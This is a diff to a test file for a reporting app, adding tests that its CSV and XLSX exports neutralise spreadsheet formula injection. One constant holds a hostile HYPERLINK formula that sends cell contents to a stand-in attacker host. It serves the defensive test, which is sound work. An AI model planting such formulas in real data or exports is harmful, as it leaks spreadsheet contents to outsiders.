@@ -4,9 +4,11 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { loadScope, topicPage } from '../app/models/aggregation.server';
 import { loader as csvLoader } from '../app/routes/api.v1.rounds.$roundId.export[.csv]';
 import { loader as xlsxLoader } from '../app/routes/api.v1.rounds.$roundId.export[.xlsx]';
-import { buildAggregationFixture, type AggregationFixture } from './helpers/aggregation-fixtures';
+import { loader as overviewLoader } from '../app/routes/review.rounds.$roundId[.csv]';
+import { createRound } from '../app/models/rounds.server';
+import { buildAggregationFixture, writeResponse, type AggregationFixture } from './helpers/aggregation-fixtures';
 import { useTestDatabase, type TestDatabase } from './helpers/db';
-import { callRoute, sessionHeaders } from './helpers/factories';
+import { callRoute, createTeam, sessionHeaders } from './helpers/factories';
 
 let test: TestDatabase;
 let f: AggregationFixture;
@@ -252,5 +254,57 @@ describe('XLSX exports', () => {
       params: { roundId: String(f.rounds.phase1.id) },
     })) as Response;
     expect(response.status).toBe(400);
+  });
+});
+
+describe('every export neutralises text a spreadsheet would run as a formula', () => {
+  const HOSTILE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Click")';
+  let roundId: number;
+  beforeAll(async () => {
+    const team = await createTeam(test.db, f.areas.elsewhere.id, 'duty-initial-assessment', '+Formula Team');
+    const round = await createRound(
+      test.db,
+      { name: '@Round', questionnaireVersionId: f.rounds.phase1.questionnaire_version_id, dueDate: '2009-01-31', teamIds: [team.id] },
+      null,
+    );
+    roundId = round.id;
+    const response = await test.db.selectFrom('responses').select('id').where('round_id', '=', round.id).executeTakeFirstOrThrow();
+    await writeResponse(test.db, response.id, { threshold_change: -1, threshold_change_detail: HOSTILE, urgent_actions: '-1 worker since May' }, 'submitted');
+  });
+
+  it('in the CSV forms (wide and long) and the overview CSV, numbers left as they are', async () => {
+    const [wide] = await records(roundId, 'form=wide');
+    expect(wide).toMatchObject({ team_name: "'+Formula Team", round_name: "'@Round", threshold_change_detail: `'${HOSTILE}`, threshold_change: '-1' });
+    const long = await records(roundId, 'form=long');
+    expect(long.find((r) => r.question === 'threshold_change_detail')?.value).toBe(`'${HOSTILE}`);
+    expect(long.find((r) => r.question === 'urgent_actions')?.value).toBe("'-1 worker since May");
+    expect(long.find((r) => r.question === 'threshold_change')?.value).toBe('-1');
+    const overview = (await callRoute(overviewLoader, `/review/rounds/${roundId}.csv`, {
+      headers: headers.reviewer,
+      params: { roundId: String(roundId) },
+    })) as Response;
+    expect(overview.status).toBe(200);
+    const rows: string[][] = parse(Buffer.from(await overview.arrayBuffer()), { bom: true });
+    expect(rows[1]).toContain("'+Formula Team");
+    // Only numbers (the days to the due date, negative once it has passed) may start with a minus sign.
+    expect(rows.flat().filter((cell) => /^[=+\-@]/.test(cell) && !Number.isFinite(Number(cell)))).toEqual([]);
+  });
+
+  it('in the XLSX workbook', async () => {
+    const response = (await callRoute(xlsxLoader, `/api/v1/rounds/${roundId}/export.xlsx?form=wide`, {
+      headers: headers.reviewer,
+      params: { roundId: String(roundId) },
+    })) as Response;
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
+    const sheet = book.getWorksheet('Wide')!;
+    const header = (sheet.getRow(1).values as unknown[]).slice(1);
+    const cell = (name: string) => sheet.getRow(2).getCell(header.indexOf(name) + 1).value;
+    expect(cell('team_name')).toBe("'+Formula Team");
+    expect(cell('threshold_change_detail')).toBe(`'${HOSTILE}`);
+    expect(cell('threshold_change')).toBe(-1);
+    const texts: string[] = [];
+    for (const sheetOfBook of book.worksheets) sheetOfBook.eachRow((row) => row.eachCell((c) => typeof c.value === 'string' && texts.push(c.value)));
+    expect(texts.filter((text) => /^[=+\-@]/.test(text))).toEqual([]);
   });
 });
